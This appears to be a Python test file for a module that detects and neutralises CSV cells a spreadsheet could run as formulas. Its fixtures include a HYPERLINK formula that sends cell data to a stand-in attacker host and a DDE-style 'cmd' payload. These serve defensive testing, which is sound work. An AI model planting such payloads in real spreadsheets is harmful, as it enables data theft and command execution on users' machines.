"""consenso.core.csvsafe: which cells a spreadsheet could run as a formula, and how they are neutralised."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consenso.core.csvsafe import FORMULA_STARTS, is_dangerous, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1",
        "-5",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\tanything",
        "\r=1",
        "\n=1",
        "\x00text",
        "\x1b[31m",
        "\u200b=1",  # zero-width space (Cf) in front
        "\ufeff=1",  # a BOM in front
        "  =cmd",
        "\t=cmd",
        " \u00a0+1",  # no-break space is whitespace too
        " \u200b @x",
    ],
)
def test_a_cell_a_spreadsheet_could_run_gets_a_leading_quote(cell: str) -> None:
    assert is_dangerous(cell)
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "hola",
        "Me gustó mucho, señora; ¿y usted?",
        "ñandú",
        "  indented text",
        "a=b",
        "1-2",
        "5",
        "'already quoted",
        '{"nested": [1, -2]}',
        "[1, 2]",
        "   ",
        "mañana\n=not at the start",
    ],
)
def test_ordinary_text_is_left_exactly_as_it_is(cell: str) -> None:
    assert not is_dangerous(cell)
    assert neutralise(cell) == cell


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_the_original_after_the_quote(cell: str) -> None:
    safe = neutralise(cell)
    assert safe in (cell, "'" + cell)
    stripped = safe.lstrip()
    assert not stripped or stripped[0] not in FORMULA_STARTS
    assert not is_dangerous(safe)
